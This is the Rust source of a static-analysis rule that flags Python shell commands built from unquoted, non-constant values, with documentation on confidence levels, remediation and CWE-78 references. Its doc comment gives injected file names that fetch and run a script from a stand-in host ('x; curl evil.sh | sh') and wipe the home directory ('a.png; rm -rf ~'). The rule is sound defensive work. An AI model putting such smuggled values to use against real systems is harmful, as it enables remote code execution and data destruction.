//! Flags shell commands built from values the program does not control.
//!
//! ## What it checks
//! Calls that hand a command string to a shell, when that string is not a constant:
//! - `subprocess.run`, `call`, `check_call`, `check_output` and `Popen` with `shell=True`
//!   (literally, or through a name holding `True`);
//! - `os.system`, `os.popen`, `subprocess.getoutput` / `getstatusoutput`, Python 2's
//!   `commands.getoutput` / `getstatusoutput`, and `asyncio.create_subprocess_shell`, which
//!   always use a shell.
//!
//! A command is constant when it is built only from literals, module constants and names
//! assigned nothing else — through f-strings, `%`, `.format()`, `+`, `.join()` and implicit
//! concatenation, followed through local variables and `+=`. UPPER_SNAKE_CASE names imported
//! from another module count as constants by convention. Values passed through
//! `shlex.quote()` (or `shlex.join()`) and numbers (`int(...)`, parameters annotated
//! `int`/`float`) are treated as safe: a command whose every non-constant part is quoted is
//! not reported — quoting is the documented way to put a value into a shell command.
//!
//! Confidence is high when the command is built from a value from outside the program (a
//! function parameter, the web request, the command line, the environment, `input()`), and
//! medium otherwise (a value computed in the program, such as a database field). It is low
//! when the whole command is one value the program holds, with no literal text of its own
//! and nothing read from the request, the user, the command line or a socket (`cmd =
//! self.channel.shell.cmd_up`, `preset.command_line`): such code runs a command an operator
//! configured, by design, and who may configure it is not in the file.
//!
//! Not reported: constant commands even with `shell=True`, argument lists without a shell
//! (`subprocess.run(["git", "log", ref])`), `shell=False`, and a list given with
//! `shell=True` whose first element (the only part the shell parses) is constant.
//!
//! ## Why it matters
//! The shell gives meaning to `;`, `|`, `&&`, `$(...)`, backticks and newlines. A value that
//! reaches a shell command line without quoting can end the intended command and start
//! another: a "filename" of `x; curl evil.sh | sh` runs the attacker's script with the
//! service's permissions, its credentials and its network access.
//!
//! ## Example
//! ```python
//! import subprocess
//!
//! def thumbnail(upload_path: str, size: int) -> None:
//!     # Flagged: a file named `a.png; rm -rf ~` runs a second command.
//!     subprocess.run(f"convert {upload_path} -resize {size}x{size} thumb.png", shell=True)
//! ```
//!
//! ## Remediation
//! Pass an argument list and no shell — `subprocess.run(["convert", upload_path, "-resize",
//! f"{size}x{size}", "thumb.png"], check=True)` — so each value stays one argument whatever
//! it contains. Replace `os.system`/`os.popen` with `subprocess.run([...])`. When a shell is
//! truly needed (a pipeline), quote every value with `shlex.quote()`, and validate values
//! that become options (a leading `-`) against an allowlist.
//!
//! ## References
//! - CWE-78: Improper Neutralization of Special Elements used in an OS Command
//! - OWASP Top 10 2021, A03 Injection
//! - OWASP OS Command Injection Defense Cheat Sheet
//! - Python documentation, `subprocess` — Security Considerations

use crate::grammar::field;
use super::{PyRule, RuleContext};
use crate::flow;
use crate::model::{Model, scope_of};
use crate::values::{
    argument, is_constant_with, keyword_value, literal_bool, outside_origin, parameter_named,
    parameter_type,
};
use palisade_core::{Confidence, Finding, Owasp, Recommendation, RuleMeta, Severity};
use tree_sitter::Node;

pub static META: RuleMeta = RuleMeta {
    id: "python/shell-command-injection",
    title: "Shell command built from non-constant input",
    severity: Severity::High,
    confidence: Confidence::High,
    cwe: &[78],
    owasp: Owasp::A03,
    recommendation: Recommendation::PythonBackend,
    needs_network: false,
    options: &[],
    source: include_str!("shell_command_injection.rs"),
};

pub static RULE: PyRule = PyRule {
    meta: &META,
    node_kinds: &["call"],
    // Sound: a resolved name's last part is spelled in the file (in the call or its import): `system`, `popen`, `getoutput`, `getstatusoutput`, `create_subprocess_shell`, or the `shell=` keyword the `subprocess` functions need.
    needs_text: &["system", "popen", "getoutput", "getstatusoutput", "shell"],
    text_test: None,
    check,
};

/// Functions that always run their command through a shell: (name, keyword of the command).
const ALWAYS_SHELL: &[(&str, &str)] = &[
    ("os.system", "command"),
    ("os.popen", "cmd"),
    ("subprocess.getoutput", "cmd"),
    ("subprocess.getstatusoutput", "cmd"),
    ("commands.getoutput", "cmd"),
    ("commands.getstatusoutput", "cmd"),
    ("asyncio.create_subprocess_shell", "cmd"),
];

/// subprocess functions that use a shell when `shell=True`.
const SHELL_OPTIONAL: &[&str] = &[
    "subprocess.run",
    "subprocess.call",
    "subprocess.check_call",
    "subprocess.check_output",
    "subprocess.Popen",
];

/// Quoting functions that make any value safe inside a shell command.
const QUOTERS: &[&str] = &["shlex.quote", "shlex.join", "pipes.quote"];

fn check(call: Node<'_>, cx: &mut RuleContext<'_, '_>) {
    let model = cx.model;
    let Some(function) = call.child_by_field_id(*field::FUNCTION) else {
        return;
    };
    let Some(resolved) = model.resolve(function) else {
        return;
    };
    let callee = model.text(function);
    let command = if let Some((_, keyword)) = ALWAYS_SHELL.iter().find(|(n, _)| *n == resolved) {
        argument(model, call, 0, keyword)
    } else if SHELL_OPTIONAL.contains(&resolved.as_str()) {
        let shell = keyword_value(model, call, "shell").and_then(|v| literal_bool(model, v));
        if !matches!(shell, Some((true, _))) {
            return;
        }
        // With a list and `shell=True`, only the first element is parsed by the shell.
        argument(model, call, 0, "args").map(|a| match a.kind() {
            "list" | "tuple" => a.named_child(0).unwrap_or(a),
            _ => a,
        })
    } else {
        return;
    };
    let Some(command) = command else {
        return;
    };
    if is_constant_with(model, command, &shell_safe) {
        return;
    }
    let origin = outside_origin(model, command);
    let confidence = if runs_a_stored_command(model, command) {
        Confidence::Low
    } else if origin.is_some() {
        Confidence::High
    } else {
        Confidence::Medium
    };
    let how = if SHELL_OPTIONAL.contains(&resolved.as_str()) {
        format!("`{callee}(..., shell=True)`")
    } else {
        format!("`{callee}`")
    };
    let source = match &origin {
        Some(o) => format!("built from {}", o.what),
        None => "that is not a constant".to_string(),
    };
    let mut finding = Finding::new(
        &META,
        cx.span(call),
        format!("{how} runs a shell command {source}: `;`, `|` or `$(...)` in it would run other commands"),
    )
    .with_confidence(confidence);
    if matches!(command.kind(), "identifier" | "attribute")
        && let Some(dotted) = model.dotted(command)
        && let [definition] = model.values(scope_of(command), &dotted)
    {
        finding = finding.with_related(cx.span(*definition), "the command is built here");
    }
    if let Some(origin) = origin {
        finding = finding.with_related(
            cx.span(origin.node),
            format!("it comes from {}", origin.what),
        );
    }
    cx.report(finding);
}

/// Whether the whole command is one value the program holds — no literal text of its own in
/// any of the ways it is built (`cmd = self.channel.shell.cmd_up`, `cmd = self.prepare(cmd,
/// flip)`, `preset.command_line`) — and nothing of it is read from the request, the user,
/// the command line or a socket. Such code runs a command someone configured, by design;
/// whether an attacker can configure it is not in this file.
fn runs_a_stored_command<'t>(model: &Model<'t>, command: Node<'t>) -> bool {
    let constructions = flow::construction(model, command);
    !constructions.is_empty()
        && constructions.iter().all(|c| {
            c.literal_text().trim().is_empty()
                && c.holes().all(|hole| match &hole.origin {
                    // A route handler's parameters are request data.
                    flow::Origin::Parameter { .. } => !crate::callers::enclosing_def(hole.source)
                        .is_some_and(|f| crate::callers::is_route_handler(model, f)),
                    flow::Origin::Environ(_) => false,
                    other => !other.is_untrusted_input(),
                })
        })
        && constructions.iter().any(|c| !c.is_constant())
}

/// Parts of a command that cannot inject: quoted values and numbers.
fn shell_safe<'t>(model: &Model<'t>, node: Node<'t>) -> bool {
    match node.kind() {
        "call" => {
            let Some(function) = node.child_by_field_id(*field::FUNCTION) else {
                return false;
            };
            if model
                .resolve(function)
                .is_some_and(|r| QUOTERS.contains(&r.as_str()))
            {
                return true;
            }
            function.kind() == "identifier"
                && matches!(model.text(function), "int" | "float" | "len")
        }
        "identifier" => parameter_named(model, node, model.text(node))
            .and_then(|p| parameter_type(model, p))
            .is_some_and(|t| matches!(t, "int" | "float" | "bool")),
        _ => false,
    }
}
